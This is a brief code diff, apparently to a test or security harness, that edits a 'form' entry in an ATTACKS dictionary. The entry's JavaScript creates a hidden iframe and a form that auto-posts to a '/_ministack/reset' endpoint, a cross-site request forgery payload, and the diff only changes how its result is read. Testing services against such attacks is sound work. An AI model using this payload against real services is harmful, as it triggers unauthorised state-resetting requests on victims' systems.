@@ -39,7 +39,9 @@ ATTACKS = {
     "form": """aws => new Promise(resolve => {
         const frame = document.createElement("iframe");
         frame.name = "answer";
-        frame.onload = () => { try { resolve(frame.contentDocument.body.innerText) } catch { resolve("nothing") } };
+        frame.onload = () => {
+            try { resolve(frame.contentDocument.body.innerText || "nothing") } catch { resolve("nothing") }
+        };
         document.body.append(frame);
         const form = document.createElement("form");
         Object.assign(form, { method: "post", action: aws + "/_ministack/reset", target: "answer" });
